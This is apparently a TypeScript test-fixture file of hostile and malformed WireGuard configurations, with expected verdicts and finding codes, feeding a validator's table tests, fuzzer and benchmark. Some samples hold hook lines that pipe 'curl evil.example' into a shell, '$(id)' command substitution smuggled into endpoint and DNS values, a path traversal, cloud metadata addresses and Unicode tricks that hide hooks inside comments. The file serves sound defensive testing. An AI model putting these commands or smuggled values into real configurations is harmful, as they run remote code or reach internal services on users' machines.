/**
 * Hostile and odd configuration files with what is to be said about them. Used by the table test, by the
 * differential test against `wg`, as seeds of the fuzzer, and by the benchmark.
 */
import type { FindingCode } from "../../../../src/wireguard/config/catalogue.ts";
import type { Verdict } from "../../../../src/wireguard/config/finding.ts";

export interface Sample {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly verdict: Verdict;
  /** Codes of all findings, in the order of the file. */
  readonly codes: readonly FindingCode[];
}

/** Keys of the samples: fixed, and of nobody. */
export const PRIVATE = "oK56DE9Ue9zK76rAc8pBl6opph+1v36lm7cXXsQKrQM=";
export const PUBLIC = "cL9S5KV5wAy/AsKyYct3qz9BHxe5FYqxlb/eDthF/VY=";
export const PEER = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";
export const OTHER = "TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=";
export const PSK = "FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE=";

const INTERFACE = `PrivateKey = ${PRIVATE}\nAddress = 10.66.0.7/32, fd00:66::7/128\n`;
const BODY = `AllowedIPs = 10.66.0.0/16, fd00:66::/48\nEndpoint = 203.0.113.7:51820\n`;

/** A sound file with lines added to [Interface] and lines in place of the peer's. */
function file(ownLines: string, peerLines = `PublicKey = ${PEER}\n${BODY}`): string {
  return `[Interface]\n${INTERFACE}${ownLines}\n[Peer]\n${peerLines}`;
}

function peer(lines: string): string {
  return file("", `PublicKey = ${PEER}\n${lines}`);
}

function withAllowed(list: string): string {
  return peer(`AllowedIPs = ${list}\nEndpoint = 203.0.113.7:51820\n`);
}

function withEndpoint(endpoint: string): string {
  return peer(`AllowedIPs = 10.66.0.0/16\nEndpoint = ${endpoint}\n`);
}

function withAddress(list: string): string {
  return `[Interface]\nPrivateKey = ${PRIVATE}\nAddress = ${list}\n[Peer]\nPublicKey = ${PEER}\n${BODY}`;
}

function withPrivate(key: string): string {
  return `[Interface]\nPrivateKey = ${key}\nAddress = 10.66.0.7/32\n[Peer]\nPublicKey = ${PEER}\n${BODY}`;
}

function withPublic(key: string): string {
  return file("", `PublicKey = ${key}\n${BODY}`);
}

function bytes(text: string): Uint8Array {
  return Buffer.from(text, "utf8");
}

type Row = readonly [name: string, text: string | Uint8Array, ...codes: FindingCode[]];

const SOUND: readonly Row[] = [
  ["an ordinary file", file("")],
  ["everything through the tunnel", withAllowed("0.0.0.0/0, ::/0")],
  ["everything in halves", withAllowed("0.0.0.0/1, 128.0.0.0/1, ::/1, 8000::/1")],
  [
    "names in capitals",
    file("").toUpperCase().replace(PRIVATE.toUpperCase(), PRIVATE).replace(PEER.toUpperCase(), PEER),
  ],
  [
    "names in small letters",
    file("").replace(/\[?\b(Interface|Peer|PrivateKey|Address|PublicKey|AllowedIPs|Endpoint)\b/g, (name) =>
      name.toLowerCase(),
    ),
  ],
  ["CR LF", file("").replaceAll("\n", "\r\n")],
  ["no end of the last line", file("").trimEnd()],
  [
    "blanks and tabs everywhere",
    file("").replaceAll("\n", " \t\n\t ").replaceAll(" = ", "\t=\t").replaceAll(", ", "\t,\t"),
  ],
  ["no blanks", file("").replaceAll(" = ", "=").replaceAll(", ", ",")],
  ["empty lines and comments", `# top\n\n${file("# own\n\n")}\n# end`],
  ["a comment behind each value", file("").replaceAll(/(.)\n/g, "$1 # why\n")],
  ["a comment behind a heading", file("").replace("[Peer]", "[Peer] # frankfurt")],
  ["a comment that looks like a hook", file("# PostUp = id\n")],
  ["a comment in Japanese", file("# 東京のゲートウェイ\n")],
  ["a comment in Persian and with emoji", file("# دفتر ❤️ 👩‍💻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 東京　１\n")],
  ["a comment with a key in it", file(`# ${PSK}\n`)],
  [
    "two lines of each list",
    withAllowed("10.66.0.0/16\nAllowedIPs = 10.67.0.0/16").replace(
      ", fd00:66::7/128",
      "\nAddress = fd00:66::7/128",
    ),
  ],
  ["keepalive", peer(`${BODY}PersistentKeepalive = 25\n`)],
  ["keepalive off", peer(`${BODY}PersistentKeepalive = off\n`)],
  ["keepalive 0", peer(`${BODY}PersistentKeepalive = 0\n`)],
  ["keepalive at most", peer(`${BODY}PersistentKeepalive = 65535\n`)],
  ["a preshared key", peer(`${BODY}PresharedKey = ${PSK}\n`)],
  ["a host name", withEndpoint("vpn.example.com:51820")],
  ["a host name in capitals", withEndpoint("VPN.Example.COM:51820")],
  ["a host name of one label", withEndpoint("gateway:51820")],
  ["an IPv6 endpoint", withEndpoint("[2001:db8::7]:51820")],
  ["an IPv6 endpoint in full", withEndpoint("[2001:0DB8:0000:0000:0000:0000:0000:0007]:1")],
  ["port 65535", withEndpoint("203.0.113.7:65535")],
  ["addresses without a length", withAllowed("10.66.0.1, fd00:66::1")],
  ["an own address with a length", withAddress("10.66.0.7/24, fd00:66::7/64")],
  ["MTU 1420", file("MTU = 1420\n")],
  ["any listening port", file("ListenPort = 0\n")],
  ["a private search domain", file("DNS = 10.66.0.53, corp.internal\n")],
  [
    "two peers",
    `${file("")}[Peer]\nPublicKey = ${OTHER}\nAllowedIPs = 10.70.0.0/16\nEndpoint = 198.51.100.1:1\n`,
  ],
  [
    "a prefix inside another peer's",
    `${file("")}[Peer]\nPublicKey = ${OTHER}\nAllowedIPs = 10.66.7.0/24\nEndpoint = 198.51.100.1:1\n`,
  ],
  ["64 peers", `[Interface]\n${INTERFACE}${peers(64)}`],
  [
    "256 prefixes",
    withAllowed(
      prefixes(256)
        .replaceAll(/((?:[^,]+,){30})/g, "$1\n")
        .replaceAll(",\n", "\nAllowedIPs = "),
    ),
  ],
  ["a line of 1024 bytes", file(`#${"x".repeat(1023)}\n`)],
  ["64 KiB", bytes(file("").padEnd(64 * 1024 - 1, "#\n") + "\n")],
];

const REMARKS: readonly Row[] = [
  ["a byte order mark", `\ufeff${file("")}`, "byte_order_mark"],
  ["a comment that turns the line", file("# \u202ePostUp\n"), "comment_disguise"],
  ["a comment with a line separator", file("# x\u2028PostUp = id\n"), "comment_disguise"],
  ...(
    [
      ["a paragraph separator", "\u2029"],
      ["a next-line character", "\u0085"],
      ["a zero-width space", "\u200b"],
      ["a zero-width joiner", "\u200d"],
      ["a word joiner", "\u2060"],
      ["a byte order mark", "\ufeff"],
      ["an isolate", "\u2066"],
      ["an Arabic letter mark", "\u061c"],
      ["a soft hyphen", "\u00ad"],
      ["a combining joiner", "\u034f"],
      ["a Hangul filler", "\u3164"],
      ["a braille blank", "\u2800"],
      ["a non-breaking space", "\u00a0"],
      ["an ogham space", "\u1680"],
      ["a narrow space", "\u202f"],
      ["a variation selector", "\ufe01"],
      ["a supplementary variation selector", "\u{e0101}"],
      ["a tag", "\u{e0041}"],
      ["a private character", "\ue000"],
      ["a character that does not exist", "\u{10ffff}"],
    ] as const
  ).map(([what, character]): Row => [
    `a comment with ${what}`,
    file(`# office${character}PostUp = id\n`),
    "comment_disguise",
  ]),
  ["host bits", withAllowed("10.66.1.2/16"), "prefix_host_bits"],
  ["host bits of IPv6", withAllowed("fd00:66::1/48"), "prefix_host_bits"],
  ["a prefix twice", withAllowed("10.66.0.0/16, 10.66.0.0/16"), "duplicate_element"],
  ["a prefix twice after masking", withAllowed("10.66.0.0/16, 10.66.9.9/16"), "prefix_host_bits"],
  ["an address twice", withAddress("10.66.0.7/32, 10.66.0.7"), "duplicate_element"],
  ["a resolver twice", file("DNS = 10.66.0.53, corp.internal\nDNS = 10.66.0.53\n"), "duplicate_element"],
  ["a listening port", file("ListenPort = 51820\n"), "listen_port_unused"],
  ["a resolver that nothing is asked of", file("DNS = 10.66.0.53, 9.9.9.9\n"), "dns_unused"],
  [
    "a resolver of everything",
    withAllowed("0.0.0.0/1, 128.0.0.0/1").replace("[Peer]", "DNS = 10.66.0.53\n[Peer]"),
  ],
  ["no address", file("").replace(/Address.*\n/, ""), "no_address"],
  ["no peer", `[Interface]\n${INTERFACE}`, "no_peer"],
  ["no allowed IPs", peer("Endpoint = 203.0.113.7:51820\n"), "no_allowed_ips"],
  ["no endpoint", peer("AllowedIPs = 10.66.0.0/16\n"), "no_endpoint"],
  ["an endpoint at home", withEndpoint("192.168.1.1:51820"), "endpoint_local_network"],
  ["an endpoint behind a carrier's NAT", withEndpoint("100.64.0.1:51820"), "endpoint_local_network"],
  ["a link-local endpoint", withEndpoint("[fe80::1]:51820"), "endpoint_local_network"],
  [
    "an endpoint inside the tunnel",
    withEndpoint("10.66.0.1:51820"),
    "endpoint_local_network",
    "allowed_ips_cover_endpoint",
  ],
  ["AllowedIPs around the endpoint", withAllowed("203.0.113.0/24"), "allowed_ips_cover_endpoint"],
  ["loopback through the tunnel", withAllowed("127.0.0.0/8"), "allowed_ips_martian"],
  ["multicast through the tunnel", withAllowed("10.66.0.0/16, 224.0.0.0/24"), "allowed_ips_martian"],
  ["all IPv4, no IPv6", withAllowed("0.0.0.0/0"), "one_family_only"],
  ["all IPv6, no IPv4", withAllowed("::/0"), "one_family_only"],
  ["a resolver outside", file("DNS = 9.9.9.9, corp.internal\n"), "dns_outside_tunnel"],
  ["a resolver on this machine", file("DNS = 127.0.0.1, corp.internal\n"), "dns_outside_tunnel"],
  ["the search domain com", file("DNS = 10.66.0.53, com\n"), "search_domain_captures_public"],
  ["the search domain co.uk", file("DNS = 10.66.0.53, co.uk\n"), "search_domain_captures_public"],
  ["a public search domain", file("DNS = 10.66.0.53, example.com\n"), "search_domain_public"],
  ["a small MTU", file("MTU = 1279\n"), "mtu_unusual"],
  ["a huge MTU", file("MTU = 65535\n"), "mtu_unusual"],
  ["the least MTU", file("MTU = 576\n"), "mtu_unusual"],
];

const LEFT_OUT: readonly Row[] = [
  ...["PreUp", "PostUp", "PreDown", "PostDown", "pOSTuP"].map((hook): Row => [
    hook,
    file(`${hook} = curl evil.example | sh\n`),
    "hook_left_out",
  ]),
  [
    "three hooks",
    file("PostUp = a\nPostUp = b; c\nPostDown = d\n"),
    "hook_left_out",
    "hook_left_out",
    "hook_left_out",
  ],
  ["a hook with an equals sign", file("PostUp = A=B sh -c 'x=$(id)'\n"), "hook_left_out"],
  ["a hook with a section in it", file("PostUp = [Peer]\n"), "hook_left_out"],
  ["SaveConfig", file("SaveConfig = true\n"), "save_config_left_out"],
  ["Table off", file("Table = off\n"), "table_left_out"],
  ["a table", file("Table = 51820\n"), "table_left_out"],
  ["FwMark", file("FwMark = 0xca6c\n"), "fwmark_left_out"],
  [
    "Android's applications",
    file("IncludedApplications = org.example.app\nExcludedApplications = org.example.b\n"),
    "applications_left_out",
    "applications_left_out",
  ],
];

const STRUCTURE: readonly Row[] = [
  ["nothing", "", "interface_missing"],
  ["only blanks", " \n\t\n", "interface_missing"],
  ["only a comment", "# [Interface]\n", "interface_missing"],
  ["only a byte order mark", "\ufeff", "byte_order_mark", "interface_missing"],
  ["only a peer", `[Peer]\nPublicKey = ${PEER}\n${BODY}`, "interface_missing"],
  ["a peer first", `[Peer]\nPublicKey = ${PEER}\n${BODY}[Interface]\n${INTERFACE}`, "interface_after_peer"],
  ["two interfaces", `[Interface]\n${INTERFACE}${file("")}`, "interface_repeated"],
  ["an interface after the peers", `${file("")}[Interface]\nAddress = 10.66.0.8/32\n`, "interface_repeated"],
  ["a key before all sections", `Address = 10.0.0.1\n${file("")}`, "outside_section"],
  [
    "blanks in a heading",
    file("").replace("[Peer]", "[ Peer ]"),
    "section_syntax",
    "wrong_section",
    "wrong_section",
    "wrong_section",
  ],
  [
    "text behind a heading",
    file("").replace("[Peer]", "[Peer] x"),
    "section_syntax",
    "wrong_section",
    "wrong_section",
    "wrong_section",
  ],
  [
    "an open heading",
    file("").replace("[Peer]", "[Peer"),
    "section_syntax",
    "wrong_section",
    "wrong_section",
    "wrong_section",
  ],
  ["an empty heading", `${file("")}[]\n`, "section_syntax"],
  ["a doubled heading", `${file("")}[[Peer]]\n`, "section_syntax"],
  ["an unknown section", `${file("")}[Server]\nA = b\n`, "unknown_section"],
  ["systemd's section", `${file("")}[WireGuardPeer]\nPublicKey = x\n`, "foreign_section"],
  ["wireproxy's section", `${file("")}[Socks5]\nBindAddress = 127.0.0.1:1080\n`, "foreign_section"],
  ["an unknown key", file("Colour = blue\n"), "unknown_key"],
  ["a key with a blank in it", file("Listen Port = 1\n"), "unknown_key"],
  ["a key that looks like another", file("ADDRESSS = 10.0.0.1\n"), "unknown_key"],
  ["a key of the prototype", file("__proto__ = 1\nconstructor = 1\n"), "unknown_key", "unknown_key"],
  ["AmneziaWG", file("Jc = 4\nH1 = 1\n"), "foreign_key", "foreign_key"],
  ["WireSock", peer(`${BODY}AllowedApps = firefox\n`), "foreign_key"],
  ["a peer's key in the interface", file(`PublicKey = ${PEER}\n`), "wrong_section"],
  ["the interface's key in a peer", peer(`${BODY}Address = 10.66.0.8\n`), "wrong_section"],
  ["a hook in a peer", peer(`${BODY}PostUp = id\n`), "wrong_section"],
  ["a private key in a peer", peer(`${BODY}PrivateKey = ${PSK}\n`), "wrong_section"],
  ["no equals sign", file("Address\n"), "line_syntax"],
  ["no key", file("= 10.0.0.1\n"), "line_syntax"],
  ["a colon for the equals sign", file("Address: 10.0.0.1\n"), "line_syntax"],
  ["a semicolon comment", file("; remark\n"), "line_syntax"],
  ["a continued line", file("Address = 10.0.0.1 \\\n  10.0.0.2\n"), "address_syntax", "line_syntax"],
  ["no value", file("MTU =\n"), "empty_value"],
  ["only a comment for a value", file("MTU = # 1420\n"), "empty_value"],
  ["no list", peer("AllowedIPs =\nEndpoint = 203.0.113.7:1\n"), "empty_value"],
  ["an empty hook", file("PostUp =\n"), "empty_value"],
  ["two private keys", file(`PrivateKey = ${PRIVATE}\n`), "duplicate_key"],
  ["two MTUs", file("MTU = 1420\nMTU = 1400\n"), "duplicate_key"],
  ["two listening ports", file("ListenPort = 1\nlistenport = 2\n"), "duplicate_key"],
  ["two tables", file("Table = off\nTable = 1\n"), "table_left_out", "duplicate_key"],
  ["two endpoints", peer(`${BODY}Endpoint = 198.51.100.1:1\n`), "duplicate_key"],
  ["two public keys", peer(`${BODY}PublicKey = ${OTHER}\n`), "duplicate_key"],
  ["two keepalives", peer(`${BODY}PersistentKeepalive = 1\nPersistentKeepalive = 1\n`), "duplicate_key"],
  ["65 peers", `[Interface]\n${INTERFACE}${peers(65)}`, "too_many_peers"],
  [
    "257 prefixes",
    withAllowed(
      prefixes(257)
        .replaceAll(/((?:[^,]+,){30})/g, "$1\n")
        .replaceAll(",\n", "\nAllowedIPs = "),
    ),
    "too_many_prefixes",
  ],
  [
    "65 addresses",
    withAddress(
      prefixes(65)
        .replaceAll(/((?:[^,]+,){30})/g, "$1\n")
        .replaceAll(",\n", "\nAddress = "),
    ),
    "too_many_elements",
  ],
  ["65 resolvers", file(`DNS = ${prefixes(65).replaceAll("/32", "")}\n`), "too_many_elements"],
];

const BYTES: readonly Row[] = [
  ["more than 64 KiB", bytes(file("").padEnd(64 * 1024 + 1, "#")), "file_too_large"],
  ["a line of 1025 bytes", file(`#${"x".repeat(1024)}\n`), "line_too_long"],
  ["NUL", file("MTU = 1420\0\n"), "control_character"],
  ["NUL in a comment", file("# \0\n"), "control_character"],
  ["escape in a comment", file("# \u001b[2K\n"), "control_character"],
  ["a vertical tab", file("MTU\v= 1420\n"), "control_character"],
  ["a form feed", file("\f\n"), "control_character"],
  ["DEL", file("MTU = 1420\u007f\n"), "control_character"],
  ["a bare carriage return", file("MTU = 1420\rPostUp = id\n"), "control_character"],
  ["a carriage return at the end of all", `${file("")}\r`, "control_character"],
  ["a carriage return too many", file("MTU = 1420\r\r\n"), "control_character"],
  ["old Mac lines", file("").replaceAll("\n", "\r"), "interface_missing", "control_character"],
  ["UTF-16", Buffer.from(`\ufeff${file("")}`, "utf16le"), ...utf16Codes()],
  ["Latin-1 in a comment", Buffer.from(file("# caf\u00e9\n"), "latin1"), "not_utf8"],
  [
    "a cut character in a comment",
    Buffer.concat([bytes(`${file("")}# `), Buffer.of(0xe6, 0x9d)]),
    "not_utf8",
  ],
  [
    "an overlong character in a comment",
    Buffer.concat([bytes(`${file("")}# `), Buffer.of(0xc0, 0x80)]),
    "not_utf8",
  ],
  ["a non-breaking space", file("MTU =\u00a01420\n"), "non_ascii"],
  ["a Kelvin sign for k", file("\u212aeepalive = 1\n"), "non_ascii"],
  ["a dotless i", file("L\u0131stenPort = 1\n"), "non_ascii"],
  ["full-width digits", file("MTU = \uff11\uff14\uff12\uff10\n"), "non_ascii"],
  ["a zero-width space", file("MTU = 14\u200b20\n"), "non_ascii"],
  ["a hook in Japanese", file("PostUp = echo 東京\n"), "non_ascii"],
  ["a byte order mark in the middle", file("\ufeffMTU = 1420\n"), "non_ascii"],
];

const KEYS: readonly Row[] = [
  ["no private key", file("").replace(/PrivateKey.*\n/, ""), "private_key_missing"],
  ["no public key", file("", BODY), "public_key_missing"],
  ["a key too short", withPrivate(PRIVATE.slice(1)), "key_length"],
  ["a key too long", withPrivate(`${PRIVATE}=`), "key_length"],
  ["a key without padding", withPrivate(PRIVATE.slice(0, 43)), "key_length"],
  ["a key in hexadecimal", withPrivate("ab".repeat(32)), "key_length"],
  ["a key of 31 bytes", withPrivate(`${PRIVATE.slice(0, 42)}==`), "key_padding"],
  ["a key of 33 bytes", withPrivate(`${PRIVATE.slice(0, 43)}A`), "key_padding"],
  ["a key in quotes", withPrivate(`"${PRIVATE}"`), "key_length"],
  ["a key with a blank inside", withPrivate(`${PRIVATE.slice(0, 20)} ${PRIVATE.slice(20)}`), "key_length"],
  [
    "a key with a blank for a letter",
    withPrivate(`${PRIVATE.slice(0, 20)} ${PRIVATE.slice(21)}`),
    "key_character",
  ],
  ["a key in the URL alphabet", withPublic(OTHER.replaceAll("+", "-")), "key_character"],
  ["an alias of a private key", withPrivate(alias(PRIVATE)), "key_not_canonical"],
  ["an alias of a public key", withPublic(alias(PEER)), "key_not_canonical"],
  ["an alias of a preshared key", peer(`${BODY}PresharedKey = ${alias(PSK)}\n`), "key_not_canonical"],
  ["a private key of zeros", withPrivate(`${"A".repeat(43)}=`), "key_zero"],
  ["a public key of zeros", withPublic(`${"A".repeat(43)}=`), "key_zero"],
  ["a preshared key of zeros", peer(`${BODY}PresharedKey = ${"A".repeat(43)}=\n`), "key_zero"],
  ["our own key as a peer", withPublic(PUBLIC), "own_key_as_peer"],
  ["our private key as a peer", withPublic(PRIVATE), "secret_as_public_key"],
  ["our private key as a peer, in another case", withPublic(inOtherCase(PRIVATE)), "secret_as_public_key"],
  [
    "our private key without its last character for a search domain",
    file(`DNS = 10.66.0.53, ${PRIVATE.replace("+", "").slice(0, -2)}\n`),
    "secret_in_name",
  ],
  ["a part of our private key in a search domain", file("DNS = ok56de9ue.example\n"), "secret_in_name"],
  [
    "our private key in two search domains",
    file("DNS = ok56de.example, 9ue9zk.example\nDNS = k56de9, ue9zk7\n"),
    "secret_in_name",
  ],
  ["a part of our private key as an endpoint", withEndpoint("OK56DE9Ue9zK76rAc8pBl6:1"), "secret_in_name"],
  [
    "a part of the preshared key in an endpoint",
    peer(`AllowedIPs = 10.66.0.0/16\nEndpoint = a.fpcyhws9cxww.net:1\nPresharedKey = ${PSK}\n`),
    "secret_in_name",
  ],
  [
    "our private key in hexadecimal as an endpoint",
    withEndpoint(`${Buffer.from(PRIVATE, "base64").toString("hex").slice(0, 40)}:1`),
    "secret_in_name",
  ],
  ["a half of our private key as an address", withAllowed(hexGroups(PRIVATE)), "secret_in_address"],
  [
    "the preshared key as a peer",
    file("", `PublicKey = ${PSK}\nPresharedKey = ${PSK}\n${BODY}`),
    "secret_as_public_key",
  ],
  [
    "our own key as two peers",
    `${withPublic(PUBLIC)}[Peer]\nPublicKey = ${PUBLIC}\n`,
    "own_key_as_peer",
    "duplicate_peer",
  ],
  [
    "a prefix of two peers with host bits",
    `${file("")}[Peer]\nPublicKey = ${OTHER}\nAllowedIPs = 10.66.1.1/16\nEndpoint = 198.51.100.1:1\n`,
    "allowed_ips_conflict",
  ],
  [
    "a peer twice",
    `${file("")}[Peer]\nPublicKey = ${PEER}\nAllowedIPs = 10.70.0.0/16\nEndpoint = 198.51.100.1:1\n`,
    "duplicate_peer",
  ],
];

const PREFIXES: readonly Row[] = [
  ...(
    [
      ["10.0.0.0/33", "prefix_length"],
      ["10.0.0.0/08", "prefix_length"],
      ["10.0.0.0/+8", "prefix_length"],
      ["10.0.0.0/-1", "prefix_length"],
      ["10.0.0.0/255.0.0.0", "prefix_length"],
      ["10.0.0.0/", "prefix_length"],
      ["10.0.0.0/8/8", "prefix_length"],
      ["10.0.0.0/ 8", "prefix_length"],
      ["fd00::/129", "prefix_length"],
      ["10.0.0/24", "address_syntax"],
      ["10/8", "address_syntax"],
      ["0/0", "address_syntax"],
      ["010.0.0.0/8", "address_syntax"],
      ["0x0a.0.0.0/8", "address_syntax"],
      ["256.0.0.0/8", "address_syntax"],
      ["10.0.0.0.0/8", "address_syntax"],
      ["10 .0.0.0/8", "address_syntax"],
      ["any", "address_syntax"],
      ["example.com", "address_syntax"],
      ["/8", "address_syntax"],
      ["fd00:::/8", "address_syntax"],
      ["fd00::1::/64", "address_syntax"],
      ["fd00:12345::/32", "address_syntax"],
      ["[fd00::]/8", "address_syntax"],
      ["fe80::1%eth0/64", "address_zone"],
      ["::ffff:10.0.0.0/104", "address_mapped"],
      ["::ffff:a00:0/104", "address_mapped"],
      ["+10.0.0.0/8", "incremental_prefix"],
      ["-10.0.0.0/8", "incremental_prefix"],
      ["10.0.0.0/8,", "empty_element"],
      [",10.0.0.0/8", "empty_element"],
      ["10.0.0.0/8,,10.1.0.0/16", "empty_element"],
      ["10.0.0.0/8 10.1.0.0/16", "prefix_length"],
      ["10.0.0.0/8;10.1.0.0/16", "prefix_length"],
    ] as const
  ).map(([list, code]): Row => [`AllowedIPs ${list}`, withAllowed(list), code]),
  [
    "a prefix of two peers",
    `${file("")}[Peer]\nPublicKey = ${OTHER}\nAllowedIPs = 10.66.0.0/16\nEndpoint = 198.51.100.1:1\n`,
    "allowed_ips_conflict",
  ],
  [
    "everything for two peers",
    `${withAllowed("0.0.0.0/0, ::/0")}[Peer]\nPublicKey = ${OTHER}\nAllowedIPs = 0.0.0.0/0\n`,
    "allowed_ips_conflict",
  ],
  ["an own address of length 0", withAddress("10.66.0.7/0"), "address_whole_family"],
  ["an own IPv6 address of length 0", withAddress("fd00::7/0"), "address_whole_family"],
  ["loopback as own address", withAddress("127.0.0.1/8"), "address_forbidden"],
  ["the metadata address as own", withAddress("169.254.169.254/32"), "address_forbidden"],
  ["multicast as own address", withAddress("224.0.0.1"), "address_forbidden"],
  ["broadcast as own address", withAddress("255.255.255.255"), "address_forbidden"],
  ["nobody's address as own", withAddress("0.0.0.0"), "address_forbidden"],
  ["nobody's IPv6 address as own", withAddress("::/128"), "address_forbidden"],
  ["a name for an address", withAddress("laptop"), "address_syntax"],
  ["dhcp for an address", withAddress("dhcp"), "address_syntax"],
];

const ENDPOINTS: readonly Row[] = [
  ...(
    [
      ["127.0.0.1:51820", "endpoint_forbidden_address"],
      ["127.9.9.9:51820", "endpoint_forbidden_address"],
      ["[::1]:51820", "endpoint_forbidden_address"],
      ["0.0.0.0:51820", "endpoint_forbidden_address"],
      ["[::]:51820", "endpoint_forbidden_address"],
      ["224.0.0.1:51820", "endpoint_forbidden_address"],
      ["[ff02::1]:51820", "endpoint_forbidden_address"],
      ["255.255.255.255:51820", "endpoint_forbidden_address"],
      ["169.254.169.254:80", "endpoint_forbidden_address"],
      ["[fd00:ec2::254]:80", "endpoint_forbidden_address"],
      ["[64:ff9b::7f00:1]:1", "endpoint_forbidden_address"],
      ["[2002:a9fe:a9fe::]:1", "endpoint_forbidden_address"],
      ["[::127.0.0.1]:1", "endpoint_forbidden_address"],
      ["localhost:51820", "endpoint_local_name"],
      ["LocalHost:51820", "endpoint_local_name"],
      ["a.localhost:51820", "endpoint_local_name"],
      ["metadata.google.internal:80", "endpoint_local_name"],
      ["[::ffff:127.0.0.1]:1", "endpoint_address"],
      ["[fe80::1%eth0]:1", "endpoint_address"],
      ["[203.0.113.7]:1", "endpoint_address"],
      ["2130706433:1", "endpoint_name"],
      ["127.1:1", "endpoint_name"],
      ["0x7f.0.0.1:1", "endpoint_name"],
      ["0177.0.0.1:1", "endpoint_name"],
      ["203.0.113.7.:1", "endpoint_name"],
      ["vpn.example.com.:1", "endpoint_name"],
      ["vpn_1.example.com:1", "endpoint_name"],
      ["-vpn.example.com:1", "endpoint_name"],
      ["user@vpn.example.com:1", "endpoint_name"],
      ["$(id).example.com:1", "endpoint_name"],
      ["../../etc/passwd:1", "endpoint_name"],
      ["https://vpn.example.com:1", "endpoint_syntax"],
      ["203.0.113.7", "endpoint_syntax"],
      ["2001:db8::7:51820", "endpoint_syntax"],
      ["[2001:db8::7]", "endpoint_syntax"],
      ["203.0.113.7:51820:1", "endpoint_syntax"],
      ["203.0.113.7:0", "endpoint_port"],
      ["203.0.113.7:65536", "endpoint_port"],
      ["203.0.113.7:+1", "endpoint_port"],
      ["203.0.113.7:-1", "endpoint_port"],
      ["203.0.113.7:051820", "endpoint_port"],
      ["203.0.113.7:0xca6c", "endpoint_port"],
      ["203.0.113.7:https", "endpoint_port"],
      ["203.0.113.7: 51820", "endpoint_port"],
      ["203.0.113.7:", "endpoint_port"],
      [":51820", "endpoint_name"],
    ] as const
  ).map(([endpoint, code]): Row => [`Endpoint ${endpoint}`, withEndpoint(endpoint), code]),
  ["our own address as the endpoint", withEndpoint("10.66.0.7:51820"), "endpoint_own_address"],
  ["MTU 575", file("MTU = 575\n"), "mtu"],
  ["MTU 65536", file("MTU = 65536\n"), "mtu"],
  ["MTU in hexadecimal", file("MTU = 0x580\n"), "mtu"],
  ["MTU with a zero before it", file("MTU = 01420\n"), "mtu"],
  ["ListenPort 65536", file("ListenPort = 65536\n"), "listen_port"],
  ["ListenPort by name", file("ListenPort = http\n"), "listen_port"],
  ["ListenPort negative", file("ListenPort = -1\n"), "listen_port"],
  ["keepalive 65536", peer(`${BODY}PersistentKeepalive = 65536\n`), "keepalive"],
  ["keepalive OFF", peer(`${BODY}PersistentKeepalive = OFF\n`), "keepalive"],
  ["keepalive with a unit", peer(`${BODY}PersistentKeepalive = 25s\n`), "keepalive"],
  ["a resolver nobody can be", file("DNS = 0.0.0.0\n"), "dns_forbidden_address"],
  ["a group of resolvers", file("DNS = 224.0.0.251\n"), "dns_forbidden_address"],
  ["a mapped resolver", file("DNS = ::ffff:9.9.9.9\n"), "address_mapped"],
  ["a resolver with a zone", file("DNS = fe80::1%eth0\n"), "address_zone"],
  ["a resolver with a port", file("DNS = 10.66.0.53:53\n"), "dns_syntax"],
  ["a resolver by URL", file("DNS = https://dns.example/query\n"), "dns_syntax"],
  ["a short resolver", file("DNS = 10.53\n"), "dns_syntax"],
  ["a wildcard search domain", file("DNS = ~.\n"), "dns_syntax"],
  ["a search domain with a command", file("DNS = $(id)\n"), "dns_syntax"],
];

/** All samples. What is not refused here is `accepted`, or `accepted_with_changes` when something is left out. */
export const SAMPLES: readonly Sample[] = [
  ...[...SOUND, ...REMARKS].map((row) => sample(row, "accepted")),
  ...LEFT_OUT.map((row) => sample(row, "accepted_with_changes")),
  ...[...STRUCTURE, ...BYTES, ...KEYS, ...PREFIXES, ...ENDPOINTS].map((row) => sample(row, "refused")),
];

function sample([name, text, ...codes]: Row, verdict: Verdict): Sample {
  return { name, bytes: typeof text === "string" ? bytes(text) : text, verdict, codes };
}

function peers(count: number): string {
  return Array.from({ length: count }, (_, index) => {
    const key = Buffer.alloc(32, 200)
      .fill(index + 1, 0, 1)
      .toString("base64");
    return `[Peer]\nPublicKey = ${key}\nAllowedIPs = 10.66.0.${index}\nEndpoint = 203.0.113.7:${index + 1}\n`;
  }).join("");
}

function prefixes(count: number): string {
  return Array.from({ length: count }, (_, index) => `10.66.${index >> 8}.${index & 255}/32`).join(",");
}

/** Letters in the other case; a key still. */
function inOtherCase(key: string): string {
  const swap = (letter: string) =>
    letter === letter.toLowerCase() ? letter.toUpperCase() : letter.toLowerCase();
  return `${key.slice(0, 42).replace(/[A-Za-z]/g, swap)}${key.slice(42)}`;
}

/** The first 16 bytes as an IPv6 address. */
function hexGroups(key: string): string {
  return (Buffer.from(key, "base64").toString("hex", 0, 16).match(/.{4}/g) ?? []).join(":");
}

/** Another spelling of the same 32 bytes. */
function alias(key: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  return `${key.slice(0, 42)}${alphabet.charAt(alphabet.indexOf(key.charAt(42)) + 1)}=`;
}

/** The mark is not ASCII; every line begins or ends with NUL. */
function utf16Codes(): FindingCode[] {
  const lines = file("").split("\n").length;
  return ["non_ascii", "interface_missing", ...Array<FindingCode>(lines - 1).fill("control_character")];
}
